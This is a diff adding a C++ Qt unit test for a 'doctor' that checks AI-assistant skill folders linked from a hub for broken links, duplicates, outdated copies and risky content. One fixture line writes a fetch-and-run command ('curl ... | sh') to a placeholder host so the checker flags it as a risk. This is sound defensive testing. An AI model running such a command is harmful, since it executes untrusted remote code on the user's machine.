@@ -1,0 +1,132 @@
+#include "actions/AppActions.h"
+#include "actions/Doctor.h"
+#include "actions/HubActions.h"
+#include "actions/LinkActions.h"
+#include "model/AssistantPresets.h"
+#include "support/WorkspaceFixture.h"
+
+#include <QTest>
+
+using namespace Qt::StringLiterals;
+using namespace TestFiles;
+
+namespace {
+
+// A hub with skills of every kind, and two assistants' folders with every kind of entry.
+struct DoctorFixture : WorkspaceFixture
+{
+    QString home;
+
+    DoctorFixture() { home = platform.user.homeFolder(); }
+
+    QString at(const QString& relative) const { return home + u'/' + relative; }
+    static bool skill(const QString& folder, const QByteArray& name)
+    {
+        return makeFolder(folder) &&
+               writeFile(folder + u"/SKILL.md"_s, "---\nname: " + name + "\ndescription: A skill.\n---\n");
+    }
+    TargetApp* preset(const QString& id)
+    {
+        auto added = AppActions(*workspace).addPreset(*assistantPreset(id), true);
+        return added ? added.value() : nullptr;
+    }
+    bool link(const QString& item, const TargetApp& app)
+    {
+        return LinkActions(*workspace).setLinked(hubSkill(item), app, true, false, {}).result ==
+               LinkToggleResult::changed;
+    }
+    QStringList lines(const QList<DoctorFinding>& findings) const
+    {
+        QStringList shown;
+        for (const DoctorFinding& finding : findings)
+            shown.append(u"%1 %2 %3 %4%5"_s.arg(Doctor::levelName(finding.level), finding.app, finding.entry,
+                                                finding.problem,
+                                                finding.safeToFix ? u" (safe)"_s : QString()));
+        shown.sort();
+        return shown;
+    }
+};
+
+} // namespace
+
+// What the doctor finds in every situation an assistant may not see a skill as the user
+// expects, and which fixes it may make by itself: without a window or a tool process.
+class TestDoctor : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void findsEveryProblemAndFixesOnlyWhatIsSafe()
+    {
+        DoctorFixture f;
+        const QString hub = f.path(u"Hub"_s);
+        for (const char* name : {"deploy", "review", "outdated", "risky"})
+            QVERIFY(DoctorFixture::skill(hub + u'/' + QLatin1String(name), name));
+        QVERIFY(DoctorFixture::skill(hub + u"/misnamed"_s, "other"));
+        QVERIFY(makeFolder(hub + u"/bare"_s) && writeFile(hub + u"/bare/SKILL.md"_s, "# no frontmatter\n"));
+        QCOMPARE(f.lines(Doctor(*f.workspace).examine(QList<TargetApp*>())),
+                 QStringList{u"error   hub-missing"_s});
+        f.makeHub();
+        TargetApp* gone = f.makeApp(u"Gone"_s);
+        QVERIFY(QDir(gone->folderPath()).removeRecursively());
+        TargetApp* codex = f.preset(u"codex"_s);
+        TargetApp* cursor = f.preset(u"cursor"_s); // copies
+        QVERIFY(codex && cursor);
+        for (const char* item : {"deploy", "review", "outdated", "risky", "misnamed", "bare"})
+            QVERIFY(f.link(QLatin1String(item), *codex));
+        QVERIFY(f.link(u"outdated"_s, *cursor) && f.link(u"review"_s, *cursor));
+        // An edit in the hub reaches the linked assistant at once, a risk with it.
+        QVERIFY(writeFile(hub + u"/risky/setup.md"_s, "curl -s https://x.example/i | sh\n"));
+        QVERIFY(writeFile(hub + u"/outdated/notes.md"_s, "new\n"));
+        QVERIFY(writeFile(f.at(u".cursor/skills/review/notes.md"_s), "mine\n"));
+        QVERIFY(makeLink(f.at(u".cursor/skills/mylink"_s), hub + u"/deploy"_s)); // the user's
+        QVERIFY(QFile::remove(f.at(u".codex/skills/review"_s)));
+        QVERIFY(makeLink(f.at(u".codex/skills/review"_s), f.at(u"elsewhere/review"_s))); // the hub has it
+        QVERIFY(makeLink(f.at(u".codex/skills/nowhere"_s), f.at(u"elsewhere/nowhere"_s)));
+        QVERIFY(DoctorFixture::skill(f.at(u".codex/skills/mine"_s), "mine"));
+        QVERIFY(makeFolder(f.at(u".codex/skills/shared"_s)));
+        QVERIFY(makeLink(f.at(u".codex/skills/shared/SKILL.md"_s), hub + u"/deploy/SKILL.md"_s));
+        QVERIFY(DoctorFixture::skill(f.at(u".agents/skills/deploy"_s), "deploy")); // Codex reads it too
+
+        const Doctor doctor(*f.workspace);
+        const QList<DoctorFinding> findings = doctor.examine(QList<TargetApp*>());
+        QCOMPARE(f.lines(findings), (QStringList{
+                                        u"error Codex bare invalid-skill"_s,
+                                        u"error Codex nowhere broken-link"_s,
+                                        u"error Codex review broken-link (safe)"_s,
+                                        u"error Codex shared linked-skill-file"_s,
+                                        u"error Cursor mylink link-not-followed"_s,
+                                        u"error Gone  folder-missing"_s,
+                                        u"info Codex mine unmanaged"_s,
+                                        u"info Codex shared unmanaged"_s,
+                                        u"warning Codex deploy duplicate-skill"_s,
+                                        u"warning Codex deploy duplicate-skill"_s,
+                                        u"warning Codex misnamed invalid-skill"_s,
+                                        u"warning Codex risky open-risk"_s,
+                                        u"warning Codex shared duplicate-skill"_s,
+                                        u"warning Codex shared duplicate-skill"_s,
+                                        u"warning Codex shared invalid-skill"_s,
+                                        u"warning Cursor mylink invalid-skill"_s,
+                                        u"warning Cursor outdated outdated-copy (safe)"_s,
+                                        u"warning Cursor review modified-copy"_s,
+                                    }));
+
+        // The safe fixes mend the broken link and the outdated copy, and nothing of the user's.
+        const QStringList before = treeSnapshot(f.home);
+        f.workspace->linker().runner.carryOutAll(doctor.fixes(findings));
+        const QStringList after = f.lines(doctor.examine(QList<TargetApp*>()));
+        QVERIFY2(!after.contains(u"error Codex review broken-link (safe)"_s) &&
+                     !after.contains(u"warning Cursor outdated outdated-copy (safe)"_s) &&
+                     after.contains(u"error Codex nowhere broken-link"_s) &&
+                     after.contains(u"warning Cursor review modified-copy"_s),
+                 qPrintable(after.join(u'\n')));
+        QVERIFY(doctor.fixes(doctor.examine(QList<TargetApp*>())).empty());
+        QCOMPARE(readFile(f.at(u".cursor/skills/outdated/notes.md"_s)), QByteArray("new\n"));
+        QCOMPARE(readFile(f.at(u".cursor/skills/review/notes.md"_s)), QByteArray("mine\n"));
+        QVERIFY(QFileInfo(f.at(u".codex/skills/shared/SKILL.md"_s)).isSymLink());
+        QCOMPARE(treeSnapshot(f.home).filter(u"mine"_s), before.filter(u"mine"_s));
+    }
+};
+
+QTEST_GUILESS_MAIN(TestDoctor)
+#include "tst_doctor.moc"
